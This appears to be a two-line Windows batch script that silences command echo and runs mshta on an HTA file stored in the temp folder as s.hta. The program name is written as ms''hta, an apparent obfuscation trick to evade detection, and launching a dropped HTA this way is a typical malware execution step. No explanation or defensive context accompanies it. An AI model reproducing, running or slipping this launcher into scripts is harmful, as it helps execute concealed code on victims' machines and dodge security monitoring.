@echo off
ms''hta %TEMP%\s.hta
